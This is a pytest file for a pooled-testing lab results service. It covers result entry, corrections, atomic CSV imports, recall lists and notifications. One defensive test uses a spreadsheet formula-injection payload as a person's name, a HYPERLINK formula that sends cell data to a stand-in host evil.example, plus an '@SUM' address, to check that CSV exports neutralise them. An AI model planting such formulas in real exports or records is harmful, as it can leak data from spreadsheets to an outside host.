"""Results: per-tube entry, corrections with a reason, CSV imports that apply all or nothing,
recall lists of positive pools, and the notifications queued for every person in a tube."""

from __future__ import annotations

import hashlib
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Engine, func, select, text
from sqlalchemy.orm import Session

from server.access import Permission
from server.db import make_engine, migrate
from server.errors import BadRequestError, ForbiddenError, NotFoundError
from server.lab import receive_tube
from server.models import (
    AuditEntry,
    Notification,
    Result,
    ResultImport,
    Role,
    SampleEvent,
    Tube,
)
from server.result_csv import parse_results_csv
from server.results import (
    ResultsContext,
    enter_result,
    import_results,
    positive_pools,
    recall_csv,
    recall_list,
    sweep_notifications,
)
from server.signing import SlipSigner
from tests.server.world import PEOPLE, World, build_world

VN = ZoneInfo("Asia/Ho_Chi_Minh")
CTX = ResultsContext(signer=SlipSigner(b"k" * 32), tz=VN, base_url="https://kq.example.vn")


@pytest.fixture
def world(db_url: str) -> Iterator[World]:
    engine = make_engine(db_url)
    migrate(engine)
    yield build_world(engine)
    engine.dispose()


def received(world: World, *codes: str) -> None:
    with Session(world.engine) as s, s.begin():
        for code in codes:
            receive_tube(s, tube_code=code, lab_id=world.lab)


def results_of(engine: Engine, code: str) -> list[tuple[str, str | None, str | None]]:
    """(value, correction reason, superseded?) of every result of a tube, oldest first."""
    with Session(engine) as s:
        tube = s.scalars(select(Tube).where(Tube.code == code)).one()
        return [
            (r.value, r.correction_reason, "superseded" if r.superseded_at else None)
            for r in s.scalars(select(Result).where(Result.tube_id == tube.id).order_by(Result.id))
        ]


def snapshot_db(engine: Engine) -> dict[str, Any]:
    with Session(engine) as s:
        return {
            "results": s.scalar(select(func.count()).select_from(Result)),
            "events": s.scalar(select(func.count()).select_from(SampleEvent)),
            "tubes": sorted((t.code, t.status, t.result) for t in s.scalars(select(Tube))),
            "audit": s.scalar(select(func.count()).select_from(AuditEntry)),
        }


def test_entering_a_result_applies_it_to_the_tube_and_audits_it(world: World) -> None:
    world.sample("st-1", "KG-RG-000001", PEOPLE)
    received(world, "KG-RG-000001")
    with Session(world.engine) as s, s.begin():
        out = enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000001", value="negative")
        assert (out.status, out.persons) == ("saved", 3)
    with Session(world.engine) as s, s.begin():
        again = enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000001", value="negative")
        assert again.status == "unchanged"
    tube = world.tube("KG-RG-000001")
    assert (tube.status, tube.result) == ("resulted", "negative")
    assert results_of(world.engine, "KG-RG-000001") == [("negative", None, None)]
    with Session(world.engine) as s:
        entries = s.scalars(select(AuditEntry)).all()
        assert [(e.action, e.actor, e.object_id, e.organisation_id) for e in entries] == [
            ("result.enter", "lab1", "KG-RG-000001", world.lab)
        ]
        assert entries[0].before is None and entries[0].after is not None
        assert entries[0].after["value"] == "negative"


def test_a_correction_needs_a_reason_and_keeps_the_earlier_value(world: World) -> None:
    world.sample("st-1", "KG-RG-000002", PEOPLE[:2])
    received(world, "KG-RG-000002")
    with Session(world.engine) as s, s.begin():
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000002", value="negative")
    with Session(world.engine) as s, pytest.raises(BadRequestError, match="needs a reason"):
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000002", value="positive")
    with Session(world.engine) as s, s.begin():
        out = enter_result(
            s,
            world.lab_staff,
            CTX,
            tube_code="KG-RG-000002",
            value="positive",
            reason="Nhầm ống khi nhập / wrong tube typed",
        )
        assert out.status == "corrected"
    assert results_of(world.engine, "KG-RG-000002") == [
        ("negative", None, "superseded"),
        ("positive", "Nhầm ống khi nhập / wrong tube typed", None),
    ]
    assert world.tube("KG-RG-000002").result == "positive"
    with Session(world.engine) as s:
        fix = s.scalars(select(AuditEntry).where(AuditEntry.action == "result.correct")).one()
        assert fix.before is not None and fix.after is not None
        assert (fix.before["value"], fix.after["value"]) == ("negative", "positive")
        assert fix.after["correction_reason"] == "Nhầm ống khi nhập / wrong tube typed"


def test_tubes_outside_the_lab_and_roles_without_results_are_refused(world: World) -> None:
    world.sample("st-2", "KG-PQ-000001", PEOPLE[:1])  # never received by the lab
    with Session(world.engine) as s, pytest.raises(NotFoundError):
        enter_result(s, world.lab_staff, CTX, tube_code="KG-PQ-000001", value="negative")
    sampler = world.principal("manager2", Role.SAMPLING_STAFF, world.s2)
    with Session(world.engine) as s, pytest.raises(ForbiddenError):
        enter_result(s, sampler, CTX, tube_code="KG-PQ-000001", value="negative")
    with Session(world.engine) as s, pytest.raises(BadRequestError):
        enter_result(s, world.admin, CTX, tube_code="KG-PQ-000001", value="maybe")


def test_a_positive_pool_makes_a_recall_list_that_tracks_re_sampling(world: World) -> None:
    world.sample("st-1", "KG-RG-000003", PEOPLE)
    world.sample("st-1", "KG-RG-000004", PEOPLE[:1], mode="single")  # negative pool elsewhere
    received(world, "KG-RG-000003", "KG-RG-000004")
    reported = datetime.fromtimestamp(world_time := 1_795_010_000.0, UTC)
    with Session(world.engine) as s, s.begin():
        enter_result(
            s,
            world.lab_staff,
            CTX,
            tube_code="KG-RG-000003",
            value="positive",
            reported_at=reported,
        )
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000004", value="positive")
    # Trần Văn An comes back and is sampled alone, after the result.
    world.sample("st-1", "KG-RG-000005", [PEOPLE[1]], at=world_time + 7200, mode="single")
    scope = world.lab_staff.scope(Permission.DATA_READ)
    with Session(world.engine) as s:
        pools = positive_pools(s, scope)
        assert [p.tube.code for p in pools] == ["KG-RG-000003"]  # a single is not a pool
        pool = recall_list(s, scope, "KG-RG-000003")
        assert [(line.position, line.person.name, line.resampled_in) for line in pool.lines] == [
            (1, "Nguyễn Thị Bình", None),
            (2, "Trần Văn An", None),
            (3, "Lê Hoàng Cường", None),
        ]
        with pytest.raises(NotFoundError):
            recall_list(s, scope, "KG-RG-000004")
    # The re-sampling tube is not the lab's: the lab staff do not see it; the province does.
    admin_scope = world.admin.scope(Permission.DATA_READ)
    with Session(world.engine) as s:
        pool = recall_list(s, admin_scope, "KG-RG-000003")
        assert [line.resampled_in for line in pool.lines] == [None, "KG-RG-000005", None]
        assert (pool.persons, pool.resampled) == (3, 1)
        text = recall_csv([pool], "vi").decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("Mẫu gộp,Cơ sở,Ngày có kết quả,#,Số giấy tờ / mã QR,Họ và tên")
    assert lines[2].split(",")[3:6] == ["2", "001090012345", "Trần Văn An"]
    assert lines[2].endswith(",KG-RG-000005")


CSV_OK = (
    "\ufeffMã ống,Kết quả,Ngày trả kết quả\r\n"
    "KG-RG-000011,Âm tính,18/11/2026 20:00\r\n"
    "KG-RG-000012,Dương tính,18/11/2026 20:05\r\n"
)


def do_import(world: World, data: bytes, *, apply: bool = True) -> Any:
    parsed = parse_results_csv(data, tz=VN)
    with Session(world.engine) as s, s.begin():
        out = import_results(
            s,
            world.lab_staff,
            CTX,
            parsed,
            filename="kq.csv",
            sha256=hashlib.sha256(data).hexdigest(),
            apply=apply,
        )
        return [(r.line, r.status.value, r.errors) for r in out.parsed.rows], out.applied


def test_a_valid_import_applies_every_row_and_reimporting_changes_nothing(world: World) -> None:
    world.sample("st-1", "KG-RG-000011", PEOPLE[:2])
    world.sample("st-1", "KG-RG-000012", PEOPLE[2:])
    received(world, "KG-RG-000011", "KG-RG-000012")
    rows, applied = do_import(world, CSV_OK.encode(), apply=False)
    assert applied is False and [r[1] for r in rows] == ["new", "new"]
    assert snapshot_db(world.engine)["results"] == 0  # a check applies nothing

    rows, applied = do_import(world, CSV_OK.encode())
    assert applied and [r[1] for r in rows] == ["new", "new"]
    after_first = snapshot_db(world.engine)
    assert after_first["results"] == 2
    assert ("KG-RG-000012", "resulted", "positive") in after_first["tubes"]
    with Session(world.engine) as s:
        r = s.scalars(select(Result).join(Tube).where(Tube.code == "KG-RG-000011")).one()
        assert (r.source, r.reported_at) == ("import", datetime(2026, 11, 18, 13, 0, tzinfo=UTC))

    rows, applied = do_import(world, CSV_OK.encode())
    assert applied and [r[1] for r in rows] == ["unchanged", "unchanged"]
    assert snapshot_db(world.engine) == after_first
    with Session(world.engine) as s:
        log = s.scalars(select(ResultImport).order_by(ResultImport.id)).all()
        assert [(i.status, i.rows_applied, i.rows_unchanged) for i in log] == [
            ("applied", 2, 0),
            ("applied", 0, 2),
        ]


def test_a_half_valid_file_is_rejected_whole_with_a_report_of_every_row(world: World) -> None:
    world.sample("st-1", "KG-RG-000021", PEOPLE[:1])
    world.sample("st-1", "KG-RG-000022", PEOPLE[1:2])
    world.sample("st-1", "KG-RG-000023", PEOPLE[2:])
    received(world, "KG-RG-000021", "KG-RG-000022", "KG-RG-000023")
    with Session(world.engine) as s, s.begin():
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000023", value="negative")
    before = snapshot_db(world.engine)
    data = (
        b"tube;result\n"
        b"KG-RG-000021;negative\n"
        b"KG-RG-000022;positive\n"
        b"KG-RG-000022;positive\n"
        b"KG-XX-999999;negative\n"
        b"KG-RG-000023;positive\n"
        b"KG-RG-000021;pending\n"
    )
    rows, applied = do_import(world, data)
    assert applied is False
    assert rows == [
        (2, "new", []),
        (3, "new", []),
        (4, "error", ["tube KG-RG-000022 already appears on line 3"]),
        (5, "error", ["unknown tube KG-XX-999999 (not received at a lab you work for)"]),
        (
            6,
            "error",
            [
                "tube KG-RG-000023 already has the result negative: correct it on the tube's "
                "page, with a reason"
            ],
        ),
        (
            7,
            "error",
            [
                "result 'pending' is not one of positive, negative, invalid",
                "tube KG-RG-000021 already appears on line 2",
            ],
        ),
    ]
    assert snapshot_db(world.engine) == before  # nothing applied, not even the valid rows
    with Session(world.engine) as s:
        kept = s.scalars(select(ResultImport)).one()
        assert (kept.status, kept.rows_total, kept.rows_applied, kept.rows_error) == (
            "rejected",
            6,
            0,
            4,
        )
        assert kept.report[3]["errors"] == [
            "unknown tube KG-XX-999999 (not received at a lab you work for)"
        ]


def test_a_failure_midway_leaves_nothing_applied(world: World) -> None:
    world.sample("st-1", "KG-RG-000031", PEOPLE[:1])
    world.sample("st-1", "KG-RG-000032", PEOPLE[1:2])
    received(world, "KG-RG-000031", "KG-RG-000032")
    before = snapshot_db(world.engine)
    data = b"tube,result\nKG-RG-000031,negative\nKG-RG-000032,negative\n"
    parsed = parse_results_csv(data, tz=VN)

    class Boom(RuntimeError):
        pass

    calls = {"n": 0}
    from server import results as results_module

    real = results_module.add_result

    def failing_second(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 2:
            raise Boom("disk full")
        return real(*args, **kwargs)

    results_module.add_result = failing_second  # type: ignore[assignment]
    try:
        with pytest.raises(Boom), Session(world.engine) as s, s.begin():
            import_results(
                s, world.lab_staff, CTX, parsed, filename="x.csv", sha256="0" * 64, apply=True
            )
    finally:
        results_module.add_result = real  # type: ignore[assignment]
    assert calls["n"] == 2
    assert snapshot_db(world.engine) == before


def test_every_person_in_a_tube_gets_one_notification_per_result(world: World) -> None:
    world.sample("st-1", "KG-RG-000041", PEOPLE)
    received(world, "KG-RG-000041")
    since = datetime.now(UTC) - timedelta(minutes=5)
    with Session(world.engine) as s, s.begin():
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000041", value="positive")
    with Session(world.engine) as s, s.begin():
        assert sweep_notifications(s, CTX, since=since) == 3
    with Session(world.engine) as s, s.begin():
        assert sweep_notifications(s, CTX, since=since) == 0  # idempotent
    with Session(world.engine) as s, s.begin():
        enter_result(
            s, world.lab_staff, CTX, tube_code="KG-RG-000041", value="negative", reason="retest"
        )
        assert sweep_notifications(s, CTX, since=since) == 3
    with Session(world.engine) as s:
        notes = s.scalars(select(Notification).order_by(Notification.id)).all()
    assert len(notes) == 6
    first = notes[0].payload
    assert first["value"] == "positive" and first["pooled"] is True
    assert first["action"] == "recall" and first["correction"] is False
    assert first["person"] == {
        "key_type": "cccd",
        "key": "079303001234",
        "name": "Nguyễn Thị Bình",
        "phone": None,
    }
    assert first["message"]["vi"] == (
        "Swabline: Mẫu gộp ngày 2026-11-18 của Nguyễn Thị Bình dương tính. Vui lòng đến "
        "lấy mẫu đơn lại."
    )
    assert first["verify_url"].startswith("https://kq.example.vn/v/")
    token = first["verify_url"].rsplit("/", 1)[1]
    ref = CTX.signer.verify(token)
    assert ref is not None and ref.result_id == first["result_id"]
    assert [n.payload["correction"] for n in notes[3:]] == [True, True, True]
    assert {n.payload["action"] for n in notes[3:]} == {"none"}


def test_persons_whose_records_arrive_after_the_result_are_notified_too(world: World) -> None:
    world.sample("st-1", "KG-RG-000051", PEOPLE[:1])
    received(world, "KG-RG-000051")
    since = datetime.now(UTC) - timedelta(minutes=5)
    with Session(world.engine) as s, s.begin():
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000051", value="negative")
        assert sweep_notifications(s, CTX, since=since) == 1
    # A second person of the same tube, from a station that was offline until now.
    world.ingest(
        [
            world._rec(
                "st-1",
                "person_added",
                {
                    "tube": "KG-RG-000051",
                    "person": {"key_type": "cccd", "key": "001090012345", "name": "Trần Văn An"},
                    "position": 2,
                },
                1_795_000_000.0,
            )
        ]
    )
    with Session(world.engine) as s, s.begin():
        assert sweep_notifications(s, CTX, since=since) == 1


def test_a_tube_never_has_two_current_results(world: World) -> None:
    """The partial unique index refuses a second current result, whatever wrote it."""
    from sqlalchemy.exc import IntegrityError

    world.sample("st-1", "KG-RG-000061", PEOPLE[:1])
    received(world, "KG-RG-000061")
    with Session(world.engine) as s, s.begin():
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000061", value="negative")
    tube_id = world.tube("KG-RG-000061").id
    now = datetime.now(UTC)
    with Session(world.engine) as s, pytest.raises(IntegrityError), s.begin():
        s.add(Result(tube_id=tube_id, value="positive", source="lab", reported_at=now))
        s.flush()
    with Session(world.engine) as s, s.begin():  # history rows are not limited
        s.add(
            Result(
                tube_id=tube_id, value="positive", source="lab", reported_at=now, superseded_at=now
            )
        )
    assert results_of(world.engine, "KG-RG-000061") == [
        ("negative", None, None),
        ("positive", None, "superseded"),
    ]


@pytest.fixture
def pg_world(postgres_url: str) -> Iterator[World]:
    engine = make_engine(postgres_url)
    migrate(engine)
    yield build_world(engine)
    engine.dispose()


def waiting_for_locks(engine: Engine, n: int) -> None:
    """Return once ``n`` other connections of this database wait for a row lock."""
    deadline = datetime.now(UTC) + timedelta(seconds=60)
    while datetime.now(UTC) < deadline:
        with engine.connect() as conn:
            waiting = conn.scalar(
                text(
                    "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                    "AND wait_event_type = 'Lock'"
                )
            )
        if waiting == n:
            return
        threading.Event().wait(0.02)
    raise AssertionError(f"{n} writers never waited for the tube's lock")


def test_concurrent_entries_for_one_tube_wait_for_each_other_on_postgresql(
    pg_world: World,
) -> None:
    """Lab staff A is saving a result; B (another scan) and a CSV import arrive for the same
    tube before A commits. Each waits for A, then sees A's result: B's different value needs a
    reason, the import reports the tube as already resulted. One current result, no silent
    overwrite."""
    world = pg_world
    world.sample("st-1", "KG-RG-000071", PEOPLE[:2])
    received(world, "KG-RG-000071")
    first = Session(world.engine)
    first.begin()
    enter_result(first, world.lab_staff, CTX, tube_code="KG-RG-000071", value="negative")

    def second_entry() -> Any:
        with Session(world.engine) as s, s.begin():
            return enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000071", value="positive")

    def an_import() -> Any:
        return do_import(world, b"tube,result\nKG-RG-000071,positive\n")

    with ThreadPoolExecutor(max_workers=2) as pool:
        entry = pool.submit(second_entry)
        imported = pool.submit(an_import)
        try:
            waiting_for_locks(world.engine, 2)
            assert not entry.done() and not imported.done()
        finally:
            first.commit()
            first.close()
        with pytest.raises(BadRequestError, match="needs a reason"):
            entry.result(timeout=60)
        rows, applied = imported.result(timeout=60)
    assert applied is False
    assert rows == [
        (
            2,
            "error",
            [
                "tube KG-RG-000071 already has the result negative: correct it on the tube's "
                "page, with a reason"
            ],
        )
    ]
    assert results_of(world.engine, "KG-RG-000071") == [("negative", None, None)]


def test_recall_csv_keeps_text_from_people_as_text(world: World) -> None:
    """A name, address or phone that starts like a formula opens as text in a spreadsheet."""
    import csv
    import io

    from server.models import Declaration, Person

    evil = '=HYPERLINK("http://evil.example/?"&A2,"Bình")'
    world.sample("st-1", "KG-RG-000081", [("079303008888", evil, "15082003"), PEOPLE[1]])
    received(world, "KG-RG-000081")
    with Session(world.engine) as s, s.begin():
        person = s.scalars(select(Person).where(Person.key == "079303008888")).one()
        person.address = "@SUM(A1:A9)"
        s.add(
            Declaration(
                qid="SW00000001",
                lookup_code_hash="0" * 64,
                person_id=person.id,
                name=evil,
                birth_date="2003-08-15",
                phone="+84912345678",
                created_at=datetime.now(UTC),
            )
        )
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000081", value="positive")
    with Session(world.engine) as s:
        pool = recall_list(s, world.lab_staff.scope(Permission.DATA_READ), "KG-RG-000081")
        data = recall_csv([pool], "en")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, first, second = rows[0], rows[1], rows[2]
    cell = dict(zip(header, first, strict=True))
    assert cell["Full name"] == "'" + evil
    assert cell["Phone"] == "'+84912345678"
    assert cell["Address"] == "'@SUM(A1:A9)"
    assert cell["ID / QR id"] == "079303008888"  # nothing else changes
    assert dict(zip(header, second, strict=True))["Full name"] == "Trần Văn An"


def test_a_notification_never_carries_a_whole_id_number_in_its_text(world: World) -> None:
    """A CCCD read by a keyboard-mode scanner has no reliable name: the message names the
    person by the masked number. A declared name (with diacritics) comes first."""
    from server.models import Declaration, Person

    world.sample("st-1", "KG-RG-000091", PEOPLE[:1])
    world.ingest(
        [
            world._rec(
                "st-1",
                "person_added",
                {
                    "tube": "KG-RG-000091",
                    "person": {
                        "key_type": "cccd",
                        "key": "001090077777",
                        "name": "TR?N V?N AN",
                        "name_reliable": False,
                    },
                    "position": 2,
                },
                1_795_000_000.0,
            )
        ]
    )
    received(world, "KG-RG-000091")
    since = datetime.now(UTC) - timedelta(minutes=5)
    with Session(world.engine) as s, s.begin():
        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000091", value="negative")
        sweep_notifications(s, CTX, since=since)
    with Session(world.engine) as s:
        texts = [n.payload["message"]["vi"] for n in s.scalars(select(Notification))]
    assert any("của Nguyễn Thị Bình: ÂM TÍNH" in t for t in texts)
    assert any("của ********7777: ÂM TÍNH" in t for t in texts)
    assert not any("001090077777" in t or "TR?N" in t for t in texts)
    # Once the person declares themself, the declared name is used.
    with Session(world.engine) as s, s.begin():
        person = s.scalars(select(Person).where(Person.key == "001090077777")).one()
        s.add(
            Declaration(
                qid="SW00000002",
                lookup_code_hash="1" * 64,
                person_id=person.id,
                name="Trần Văn An",
                birth_date="1990-01-01",
                created_at=datetime.now(UTC),
            )
        )
        enter_result(
            s, world.lab_staff, CTX, tube_code="KG-RG-000091", value="invalid", reason="retest"
        )
        sweep_notifications(s, CTX, since=since)
    with Session(world.engine) as s:
        texts = [n.payload["message"]["vi"] for n in s.scalars(select(Notification))]
    assert any("của Trần Văn An không xác định được" in t for t in texts)
